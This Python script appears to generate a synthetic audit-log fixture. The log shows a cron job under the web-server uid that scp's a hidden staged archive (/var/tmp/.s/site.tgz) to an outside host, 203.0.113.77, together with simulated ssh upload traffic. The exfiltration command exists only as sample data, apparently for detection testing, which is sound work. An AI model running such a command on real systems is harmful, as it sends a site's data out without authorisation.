#!/usr/bin/env python3
"""Writes samples/web-03/audit.log.gz anew: the one sample that was written and not recorded, since
it takes a hundred megabytes on a wire to make one. Sizes of calls are those that ssh is seen to use:
four packets of 32,768 bytes with 36 of their own at a time."""
import gzip
import pathlib
import sys

sys.dont_write_bytecode = True
from story import Story  # noqa: E402

LOG = pathlib.Path(__file__).resolve().parents[2] / "samples" / "web-03" / "audit.log.gz"
PACKETS = 4 * (32768 + 36)


def night():
    story = Story(start=1796178601.52, serial=48210)  # 2026-12-02T02:30:01Z
    shell = story.cron_job("scp -q /var/tmp/.s/site.tgz ops@203.0.113.77:in/", uid=33, ses=61)
    scp = shell.fork(702).exec("/usr/bin/scp", "scp", "-q", "/var/tmp/.s/site.tgz",
                               "ops@203.0.113.77:in/", cwd="/var/www")
    ssh = scp.fork(703).exec("/usr/bin/ssh", "/usr/bin/ssh", "-x", "-oPermitLocalCommand=no",
                             "-oClearAllForwardings=yes", "-oRemoteCommand=none",
                             "-oRequestTTY=no", "-q", "-l", "ops", "-s", "--", "203.0.113.77",
                             "sftp", cwd="/var/www")
    ssh.upload(3, "203.0.113.77", 22, 41, 1560, 1208, 16, 60, 84, 500, 132, 44, 188, 68,
               *[PACKETS] * 1210, 74212, 68, 36, 60)
    story.chatter()
    return story.text()


LOG.parent.mkdir(exist_ok=True)
LOG.write_bytes(gzip.compress(night().encode(), 9, mtime=0))
